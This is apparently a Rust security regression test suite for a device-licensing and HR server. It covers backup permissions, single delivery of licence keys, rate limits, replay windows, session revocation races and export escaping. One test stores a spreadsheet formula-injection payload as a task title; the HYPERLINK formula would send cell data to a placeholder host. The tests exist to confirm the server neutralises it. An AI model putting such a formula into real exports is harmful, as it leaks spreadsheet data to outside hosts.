//! Issue 11: callers kept apart, no write acknowledged early, secrets kept off disks and logs.
//! Each test here failed on the code before its fix.

use std::os::unix::fs::PermissionsExt;

use serde_json::json;

use crate::harness::*;

/// Backups hold master.key and password hashes: 0600 whatever the umask, and an existing
/// file is never replaced.
#[test]
fn backups_are_private_and_never_overwritten() {
    let s = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("nightly.ghb");
    let out_s = out.to_str().unwrap();
    // A permissive umask on the CLI side too (the server writes the file either way).
    let run = |args: &str| {
        std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "umask 000; exec '{BIN}' backup --out '{out_s}' --state '{}' {args}",
                s.state.display()
            ))
            .output()
            .unwrap()
    };
    let first = run("--json");
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "backup mode {mode:o}");
    let before = std::fs::read(&out).unwrap();
    let again = run("");
    assert!(
        !again.status.success(),
        "a second backup over the same file must fail"
    );
    assert!(
        String::from_utf8_lossy(&again.stderr).contains("already exists"),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    assert_eq!(
        std::fs::read(&out).unwrap(),
        before,
        "the first backup is untouched"
    );
    // Offline (no server): the same rules.
    drop(s);
}

/// An approved IMEI's licence key goes to one asker only; staff re-issue a new one, and the
/// old key stops working.
#[test]
fn a_licence_key_is_delivered_once_and_reissued_by_staff() {
    let s = Server::start();
    let imei = "359000000000011";
    let ask = || {
        codelayer(
            &s,
            "system/license",
            &json!({"imei": imei, "appID": "POABS"}),
        )
    };
    assert_eq!(ask()["licenses"][0]["statusCode"], 1);
    s.cli_json(&["device", "approve", "--imei", imei]);
    let first = ask();
    let key = first["licenses"][0]["key"]
        .as_str()
        .expect("first asker gets it")
        .to_string();
    // Whoever sends the IMEI next (an attacker who copied it) gets no key.
    let second = ask();
    assert_eq!(second["licenses"][0]["statusCode"], 2, "{second}");
    assert!(
        second["licenses"][0].get("key").is_none(),
        "key handed out twice: {second}"
    );
    let list = s.cli_json(&["device", "list"]);
    assert_eq!(list[0]["key_delivered_to"], "127.0.0.1", "{list}");
    // The key works until staff re-issue; then only the new one does.
    s.cli(&[
        "user",
        "add",
        "--username",
        "mandor",
        "--password",
        "mandor-pass-1",
    ]);
    let auth = |k: &str| {
        codelayer(
            &s,
            "system/auth",
            &json!({"key": k, "username": "mandor", "password": "mandor-pass-1", "imei": imei, "ver": "1.0.0.0"}),
        )
    };
    let a = auth(&key);
    assert_eq!(a["e"], 200, "{a}");
    let session = a["key"].as_str().unwrap().to_string();
    s.cli_json(&["device", "reissue", "--imei", imei]);
    assert_eq!(auth(&key)["e"], 403, "the old key is dead");
    let st = codelayer(
        &s,
        "system/settings",
        &json!({"key": session, "imei": imei}),
    );
    assert_eq!(st["e"], 401, "sessions of the old key end: {st}");
    let k2 = ask()["licenses"][0]["key"].as_str().unwrap().to_string();
    assert_ne!(k2, key);
    assert!(ask()["licenses"][0].get("key").is_none());
    assert_eq!(auth(&k2)["e"], 200);
    // Re-issuing for a device that is not approved is refused.
    let out = s.cli(&["device", "reissue", "--imei", "359000000000099"]);
    assert!(!out.status.success());
}

/// `register_device` does not silently replace an approved device's name and number.
#[test]
fn an_approved_devices_registration_is_not_overwritten() {
    let s = Server::start();
    let imei = "359000000000022";
    let reg = |name: &str, mobile: &str| {
        codelayer(
            &s,
            "system/register_device",
            &json!({"imei": imei, "appID": "POABS", "clientID": "ESTATE", "deviceName": name, "mobileNumber": mobile}),
        )
    };
    assert_eq!(reg("Muster 1", "+62822997572")["status"], "OK");
    s.cli_json(&["device", "approve", "--imei", imei]);
    // The same registration again (a handheld restarting) is fine.
    assert_eq!(reg("Muster 1", "+62822997572")["status"], "OK");
    let r = reg("Evil twin", "+62800000000");
    assert_eq!(r["e"], 409, "{r}");
    let list = s.cli_json(&["device", "list"]);
    assert_eq!(list[0]["device_name"], "Muster 1", "{list}");
    assert_eq!(list[0]["mobile"], "+62822997572", "{list}");
}

/// A flood of new IMEIs is limited per source address and in total pending.
#[test]
fn licence_requests_are_rate_limited_and_capped() {
    // The default limit: 20 new IMEIs a minute from one address.
    let s = Server::start();
    let mut codes = Vec::new();
    for i in 0..23 {
        let l = codelayer(
            &s,
            "system/license",
            &json!({"imei": format!("3590000001{i:05}"), "appID": "POABS"}),
        );
        codes.push(l["e"].as_i64().unwrap());
    }
    let mut want = vec![200; 20];
    want.extend([429, 429, 429]);
    assert_eq!(codes, want, "{codes:?}");
    // Asking again for a known IMEI is not a new record and is not limited.
    let again = codelayer(
        &s,
        "system/license",
        &json!({"imei": "359000000100000", "appID": "POABS"}),
    );
    assert_eq!(again["e"], 200, "{again}");
    assert_eq!(
        s.cli_json(&["device", "list"]).as_array().unwrap().len(),
        20
    );

    let s = Server::start_with(
        &[],
        &[
            ("GATEHOUSE_SECURITY__LICENCE_REQUESTS_PER_MINUTE", "100"),
            ("GATEHOUSE_SECURITY__LICENCE_PENDING_MAX", "3"),
        ],
    );
    let mut codes = Vec::new();
    for i in 0..5 {
        let l = codelayer(
            &s,
            "system/register_device",
            &json!({"imei": format!("3590000002{i:05}"), "appID": "POABS", "clientID": "ESTATE",
                    "deviceName": "Flood", "mobileNumber": "+62822997572"}),
        );
        codes.push(l["e"].as_i64().unwrap());
    }
    assert_eq!(codes, [200, 200, 200, 429, 429], "{codes:?}");
    // A decision frees a place.
    s.cli_json(&["device", "reject", "--imei", "359000000200000"]);
    let l = codelayer(
        &s,
        "system/license",
        &json!({"imei": "359000000299999", "appID": "POABS"}),
    );
    assert_eq!(l["e"], 200, "{l}");
}

/// Forgot Password may be called a few times per user name an hour, existing or not (the
/// answer must not tell which); then 429 in the family's envelope.
#[test]
fn forgot_password_is_rate_limited_per_user() {
    // The default limit: 3 an hour.
    let s = Server::start();
    let da = DaSession::open(&s, "siti", "siti-pass-1", "clerk");
    let bearer = format!("Bearer {}", da.client_token);
    let forgot = |u: &str| {
        let rid = request_id();
        post_json(
            &format!("{}/user/forgot-password", da.base),
            &da_client_headers(&da.app_key, &bearer, &rid),
            &json!({"username": u}),
        )
    };
    for name in ["siti", "ghost"] {
        for _ in 0..3 {
            assert_eq!(forgot(name).status, 200, "{name}");
        }
        let third = forgot(name);
        assert_eq!(third.status, 429, "{name}: {}", third.text);
        assert_eq!(third.json()["code"], 429);
        assert!(third.header("retry-after").is_some());
    }
    // Another user is not held back by siti's limit.
    assert_eq!(forgot("budi").status, 200);
}

/// Two users of one client system sending the same x-request-id and body are two calls:
/// neither gets the other's stored answer, and both writes happen.
#[test]
fn idempotency_records_belong_to_the_caller_not_the_client() {
    let s = Server::start();
    let a = DaSession::open(&s, "clerk.a", "clerk-a-pass", "clerk");
    s.cli(&[
        "user",
        "add",
        "--username",
        "clerk.b",
        "--password",
        "clerk-b-pass",
        "--role",
        "clerk",
    ]);
    let b = DaSession::login(&s, &a.app_key, &a.private_key, "clerk.b", "clerk-b-pass");
    let body = json!({"title": "Weed block 7"});
    let rid = request_id();
    let first = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
    assert!(first.status == 200 || first.status == 201, "{}", first.text);
    // A's own retry replays.
    let again = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
    assert_eq!(again.header("x-idempotent-replay"), Some("true"));
    assert_eq!(again.text, first.text);
    // B with the same id and body: B's own write, not A's answer.
    let other = b.call_as("POST", "/tasks", Some(&body), &rid, "en");
    assert!(other.status == 200 || other.status == 201, "{}", other.text);
    assert!(
        other.header("x-idempotent-replay").is_none(),
        "B got A's stored answer: {}",
        other.text
    );
    let (ida, idb) = (
        &first.json()["data"]["task_id"],
        &other.json()["data"]["task_id"],
    );
    assert!(ida.is_u64() && idb.is_u64(), "{ida} {idb}");
    assert_ne!(ida, idb, "B got A's task");
    // A replay does not outlive its credential: after logout the stored answer is not served.
    let out = a.call("POST", "/user/logout", Some(&json!({})));
    assert_eq!(out.status, 200, "{}", out.text);
    let after = a.call_as("POST", "/tasks", Some(&body), &rid, "en");
    assert_eq!(after.status, 401, "{}", after.text);
    assert!(after.header("x-idempotent-replay").is_none());
}

/// A captured Verify replays within its ±300 s window only.
#[test]
fn a_verify_replay_after_the_window_gets_no_client_token() {
    let s = Server::start();
    let c = s.cli_json(&["client", "add", "--name", "gate-app"]);
    let (ak, pk) = (
        c["app_key"].as_str().unwrap(),
        c["private_key"].as_str().unwrap(),
    );
    let rid = request_id();
    // Signed 298 s ago: still inside the window, for two more seconds.
    let ts = now_unix() - 298;
    let sig = hmac_hex(pk, &format!("{rid}\n{ts}"));
    let send = || {
        post_json(
            &s.url("/daily/v1/authorize/verify"),
            &[
                ("x-app-key", ak),
                ("x-request-id", &rid),
                ("x-language", "en"),
            ],
            &json!({"timestamp": ts, "signature": sig}),
        )
    };
    let first = send();
    assert_eq!(first.status, 200, "{}", first.text);
    assert!(first.json()["data"]["client_token"].is_string());
    std::thread::sleep(std::time::Duration::from_millis(3500));
    let late = send();
    assert_eq!(late.status, 401, "{}", late.text);
    assert!(!late.text.contains("client_token"), "{}", late.text);
    assert!(late.header("x-idempotent-replay").is_none());
}

/// A touch (recording a session's use) racing a revoke never brings the session back. Loops
/// with many sessions and constant touches until the race would have happened.
#[test]
fn touches_racing_a_revoke_never_revive_a_session() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    let s = Server::start_with(&[], &[("GATEHOUSE_SECURITY__SESSION_TOUCH_SECS", "0")]);
    let imei = "359000000000033";
    s.cli(&[
        "user",
        "add",
        "--username",
        "racer",
        "--password",
        "racer-pass-0",
        "--role",
        "supervisor",
    ]);
    let lic = codelayer_licence(&s, imei);
    for round in 0..4 {
        let pw = format!("racer-pass-{round}");
        // Codelayer sessions and Authorize sign-ins of one user.
        let cl: Vec<String> = (0..6)
            .map(|_| {
                let a = codelayer(
                    &s,
                    "system/auth",
                    &json!({"key": lic, "username": "racer", "password": pw, "imei": imei, "ver": "1.0.0.0"}),
                );
                assert_eq!(a["e"], 200, "{a}");
                a["key"].as_str().unwrap().to_string()
            })
            .collect();
        let az: Vec<(String, String)> = (0..6)
            .map(|i| {
                let dev = format!("RACE-{round}-{i}");
                let a = post_json(
                    &s.url("/api/users/authorize"),
                    &[],
                    &json!({"username": "racer", "password": pw, "deviceID": dev, "notificationCenterType": "none"}),
                );
                assert_eq!(a.status, 200, "{}", a.text);
                (dev, a.json()["message"]["token"].as_str().unwrap().to_string())
            })
            .collect();
        // Authorize touches at most once a second: let every sign-in become touchable.
        std::thread::sleep(std::time::Duration::from_millis(1100));
        let stop = Arc::new(AtomicBool::new(false));
        let workers: Vec<_> = (0..4)
            .map(|w| {
                let (stop, cl, az, base) = (stop.clone(), cl.clone(), az.clone(), s.url(""));
                std::thread::spawn(move || {
                    let mut i = w;
                    while !stop.load(Ordering::Relaxed) {
                        let k = &cl[i % cl.len()];
                        let _ = post_json(
                            &format!("{base}/codelayer/system/settings"),
                            &[],
                            &json!({"key": k, "imei": "359000000000033"}),
                        );
                        let (d, t) = &az[i % az.len()];
                        let _ = post_json(
                            &format!("{base}/api/users/profile"),
                            &[],
                            &json!({"deviceID": d, "token": t}),
                        );
                        i += 1;
                    }
                })
            })
            .collect();
        std::thread::sleep(std::time::Duration::from_millis(150));
        let next = format!("racer-pass-{}", round + 1);
        let (st, v) = admin_call(
            &s,
            "POST",
            "/admin/users/password",
            Some(&json!({"username": "racer", "password": next})),
        );
        assert_eq!(st, 200, "{v}");
        std::thread::sleep(std::time::Duration::from_millis(150));
        stop.store(true, Ordering::Relaxed);
        for w in workers {
            w.join().unwrap();
        }
        for k in &cl {
            let v = codelayer(&s, "system/settings", &json!({"key": k, "imei": imei}));
            assert_eq!(
                v["e"], 401,
                "round {round}: a revoked Codelayer session works again: {v}"
            );
        }
        for (d, t) in &az {
            let a = post_json(
                &s.url("/api/users/profile"),
                &[],
                &json!({"deviceID": d, "token": t}),
            );
            assert_eq!(
                a.status, 401,
                "round {round}: a revoked Authorize token works again: {}",
                a.text
            );
        }
    }
}

/// Exports open in spreadsheets: a text that would run as a formula is written as text (CSV:
/// a leading `'`; XLSX: the quote-prefix style), numbers stay numbers.
#[test]
fn exported_cells_never_run_as_formulas() {
    let s = Server::start();
    let da = DaSession::open(&s, "clerk.x", "clerk-x-pass", "clerk");
    let evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")";
    let t = da.call("POST", "/tasks", Some(&json!({"title": evil})));
    assert!(t.status == 200 || t.status == 201, "{}", t.text);
    let date = t.json()["data"]["date"].as_str().unwrap().to_string();
    let dir = tempfile::tempdir().unwrap();
    let csv_path = dir.path().join("tasks.csv");
    s.cli_json(&[
        "export",
        "tasks",
        "--from",
        &date,
        "--to",
        &date,
        "--format",
        "csv",
        "--out",
        csv_path.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&csv_path).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(
        !text.contains(",=HYPERLINK(") && !text.contains(",\"=HYPERLINK("),
        "{text}"
    );
    let xlsx_path = dir.path().join("tasks.xlsx");
    s.cli_json(&[
        "export",
        "tasks",
        "--from",
        &date,
        "--to",
        &date,
        "--format",
        "xlsx",
        "--out",
        xlsx_path.to_str().unwrap(),
    ]);
    // Read the sheet's XML with Python's zipfile (no zip reader among our dependencies).
    let py = std::process::Command::new("python3")
        .arg("-c")
        .arg("import sys,zipfile;z=zipfile.ZipFile(sys.argv[1]);print(z.read('xl/styles.xml').decode());print(z.read('xl/worksheets/sheet1.xml').decode())")
        .arg(&xlsx_path)
        .output();
    let Ok(py) = py else {
        eprintln!("python3 not available: XLSX content not read back");
        return;
    };
    let xml = String::from_utf8_lossy(&py.stdout);
    assert!(
        xml.contains("quotePrefix=\"1\""),
        "no quote-prefixed style: {xml}"
    );
    assert!(!xml.contains("<f>"), "a formula cell was written: {xml}");
}

/// The Authorize API profile answers from stored data: the Company record when there is one,
/// null for what the box does not know (no invented phone, EULA acceptance or dates).
#[test]
fn the_authorize_profile_invents_nothing() {
    let s = Server::start();
    let admin = DaSession::open(&s, "boss", "boss-pass-1", "admin");
    let c = admin.call(
        "PUT",
        "/company",
        Some(&json!({"name": "Kebun Sari", "legal_name": "PT Kebun Sari Lestari", "phone": "+62 21 555 0101",
                     "address": {"line": "Jl. Perkebunan 1", "city": "Medan"}})),
    );
    assert_eq!(c.status, 200, "{}", c.text);
    let a = post_json(
        &s.url("/api/users/authorize"),
        &[],
        &json!({"username": "boss", "password": "boss-pass-1", "deviceID": "TAB-1", "notificationCenterType": "none"}),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let m = a.json()["message"].clone();
    for k in [
        "phone",
        "acceptEula",
        "acceptEulaDate",
        "isEmailVerified",
        "welcomepopup",
        "isDemo",
        "profilePicture",
    ] {
        assert!(m["profile"].get(k).is_some(), "{k} missing");
        assert!(
            m["profile"][k].is_null(),
            "profile.{k} is invented: {}",
            m["profile"]
        );
    }
    assert_eq!(
        m["company"]["companyName"], "Kebun Sari",
        "{}",
        m["company"]
    );
    assert_eq!(m["company"]["companyCity"], "Medan");
    assert_eq!(m["company"]["companyPhone"], "+62 21 555 0101");
    assert!(m["company"]["companyFax"].is_null());
    let token = m["token"].as_str().unwrap();
    let p = post_json(
        &s.url("/api/users/profile"),
        &[],
        &json!({"deviceID": "TAB-1", "token": token}),
    );
    assert_eq!(p.status, 200, "{}", p.text);
    let pm = p.json()["message"].clone();
    assert_eq!(pm["company"]["companyName"], "Kebun Sari");
    assert_eq!(pm["company"]["companyAddress1"], "Jl. Perkebunan 1");
    assert!(pm["profile"]["acceptEulaDate"].is_null());
    assert!(pm["profile"]["departmentName"].is_null());
}

/// `hrdetails/emp_attendance` answers one bounded page at a time (`page`, `more`).
#[test]
fn employee_attendance_is_paged() {
    let s = Server::start_with(&["--demo"], &[("GATEHOUSE_SECURITY__HR_PAGE_LINES", "5")]);
    s.cli(&[
        "user",
        "add",
        "--username",
        "hr.admin",
        "--password",
        "hr-admin-pass",
        "--role",
        "admin",
    ]);
    let key = codelayer_login(&s, "hr.admin", "hr-admin-pass", "359000000000044");
    let today = chrono_today(&s);
    let from = {
        let d: Vec<i64> = today.split('-').map(|x| x.parse().unwrap()).collect();
        // The first of this month, or of the previous one when today is early in the month.
        if d[2] > 3 {
            format!("{:04}-{:02}-01", d[0], d[1])
        } else if d[1] > 1 {
            format!("{:04}-{:02}-20", d[0], d[1] - 1)
        } else {
            format!("{:04}-12-20", d[0] - 1)
        }
    };
    let mut seen = std::collections::BTreeSet::new();
    let mut pages = 0;
    for page in 1..200 {
        let v = codelayer(
            &s,
            "hrdetails/emp_attendance",
            &json!({"key": key, "attendancefrom": from, "attendancetill": today, "page": page}),
        );
        assert_eq!(v["e"], 200, "{v}");
        let lines = v["employeeatt"].as_array().unwrap();
        assert!(lines.len() <= 5, "page {page} has {} lines", lines.len());
        for l in lines {
            assert!(
                seen.insert((l["co_id"].to_string(), l["adate"].to_string())),
                "a line twice: {l}"
            );
        }
        pages += 1;
        if v["more"] == "F" {
            break;
        }
        assert_eq!(v["more"], "T", "{v}");
        assert_eq!(lines.len(), 5, "a page before the last is full");
    }
    assert!(
        pages > 1 && seen.len() > 5,
        "{pages} pages, {} lines",
        seen.len()
    );
}

/// Generate Report with the same parameters (data unchanged) answers the report already made.
#[test]
fn generate_report_twice_is_the_same_report() {
    let s = Server::start();
    let da = DaSession::open(&s, "mgr", "mgr-pass-123", "manager");
    let gen = |from: &str| {
        let a = da.call(
            "GET",
            &format!("/reports/tasks?from={from}&to={from}&format=csv"),
            None,
        );
        assert_eq!(a.status, 200, "{}", a.text);
        a.json()["data"]["report_id"].as_u64().unwrap()
    };
    assert_eq!(gen("2026-01-05"), gen("2026-01-05"));
    assert_ne!(gen("2026-01-05"), gen("2026-01-06"));
}

/// Stored reports stay within their quota, the oldest going first (with their files).
#[test]
fn generate_report_is_repeatable_and_bounded() {
    let s = Server::start_with(&[], &[("GATEHOUSE_SECURITY__REPORT_QUOTA_KB", "16")]);
    let da = DaSession::open(&s, "mgr", "mgr-pass-123", "manager");
    let gen = |from: &str, to: &str| {
        let a = da.call(
            "GET",
            &format!("/reports/tasks?from={from}&to={to}&format=xlsx"),
            None,
        );
        assert_eq!(a.status, 200, "{}", a.text);
        a.json()["data"].clone()
    };
    let a = gen("2026-01-01", "2026-01-31");
    let b = gen("2026-01-01", "2026-01-31");
    assert_eq!(a["report_id"], b["report_id"], "the same report again");
    let c = gen("2026-02-01", "2026-02-28");
    assert_ne!(a["report_id"], c["report_id"]);
    let size = a["file_bytes"].as_u64().unwrap();
    assert!(size > 1024 && size < 16 * 1024, "an xlsx of {size} bytes");
    // More reports than the quota holds: the oldest go, the newest stay downloadable.
    let mut ids = vec![
        a["report_id"].as_u64().unwrap(),
        c["report_id"].as_u64().unwrap(),
    ];
    for m in 3..=9 {
        ids.push(
            gen(&format!("2026-{m:02}-01"), &format!("2026-{m:02}-10"))["report_id"]
                .as_u64()
                .unwrap(),
        );
    }
    let status = |id: u64| {
        da.call("GET", &format!("/reports/tasks/{id}/download"), None)
            .status
    };
    assert_eq!(status(*ids.last().unwrap()), 200);
    assert_eq!(
        status(ids[0]),
        404,
        "the oldest report was removed to keep the quota"
    );
    let kept = ids.iter().filter(|id| status(**id) == 200).count() as u64;
    assert!(
        kept * size <= 16 * 1024 + size,
        "{kept} reports of {size} bytes kept"
    );
    let blobs: usize = std::fs::read_dir(s.state.join("blobs"))
        .unwrap()
        .filter_map(|d| d.ok())
        .filter(|d| d.file_name() != "tmp")
        .map(|d| std::fs::read_dir(d.path()).map(|r| r.count()).unwrap_or(0))
        .sum();
    assert!(
        blobs as u64 <= kept,
        "{blobs} files for {kept} reports: removed reports left files"
    );
}

/// The site's day now (the default site offset, +07:00).
fn chrono_today(_s: &Server) -> String {
    chrono::DateTime::from_timestamp(now_unix() + 420 * 60, 0)
        .unwrap()
        .date_naive()
        .to_string()
}
